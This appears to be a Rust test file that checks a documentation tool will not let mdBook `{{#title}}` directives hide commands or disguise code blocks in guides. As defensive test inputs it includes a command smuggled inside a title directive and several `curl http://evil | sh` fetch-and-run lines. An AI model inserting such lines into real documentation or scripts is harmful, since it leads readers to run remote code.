//! H3: `{{#title}}` hides no command and changes no block.

use crate::project::Project;

const STEP: &str = "```sh recipe=one\ntrue\n```\n";

#[test]
fn h3_what_the_page_loses_does_not_run() {
    let book = Project::with_guide("g", "```sh recipe=one\ntrue || {{#title ; touch HID ; : }}false\n```\n");
    let hid = book.path("hid");
    book.edit("guides/g.md", "HID", hid.to_str().unwrap());
    book.dogfood("check").code(1).says("error[broken-include]: mdBook takes `{{#title}}` out of the page");
    book.dogfood("run");
    assert!(!book.has("hid"), "the command that no page shows has run");
}

#[test]
fn h3_a_block_is_what_it_is_on_the_page() {
    for (body, rule) in [
        ("Run this:\n{{#title T}}\n    curl http://evil | sh\n", "error[unclassified-fence]: an indented code block"),
        ("Run this:\n{{#title T\n}}\n    curl http://evil | sh\n", "error[unclassified-fence]: an indented code block"),
        (
            "Run this:\n{{#include title.md}}\n    curl http://evil | sh\n",
            "error[unclassified-fence]: an indented code block",
        ),
        ("`{{#title T}}``sh\ncurl http://evil | sh\n```\n", "error[unclassified-fence]"),
        ("<!-{{#title T}}-\n\n```sh recipe=two\ntrue\n```\n\n-->\n", "a fence inside HTML does not run"),
        ("- a {{#title T}}\n", "error[broken-include]: mdBook takes"),
        ("| a |\n|---|\n| {{#title T}} |\n", "error[broken-include]: mdBook takes"),
        ("a `{{#title T}}` b\n", "error[broken-include]: mdBook takes"),
        ("```text illustrative=shown\na\n{{#title T}}\nb\n```\n", "error[broken-include]: mdBook takes"),
        ("# A {{#title T}}\n", "error[broken-include]: mdBook takes"),
    ] {
        let book = Project::with_guide("g", &format!("{STEP}\n{body}")).file("guides/title.md", "{{#title T}}\n");
        book.dogfood("check").code(1).says(rule);
    }
}

#[test]
fn h3_a_title_on_a_line_of_its_own_is_the_page_s() {
    let book = Project::with_guide("g", &format!("{{{{#title First}}}}\n\n{STEP}\n{{{{#include title.md}}}}\n"))
        .file("guides/title.md", "{{#title The\n  last}}\n");
    book.dogfood("run").code(0);
    book.dogfood("check --deny warnings").code(0);
    book.dogfood("build").code(0);
    let html = book.read("book/g.html");
    assert!(html.contains("<title>The\n  last") && !html.contains("#title"), "{html}");
}
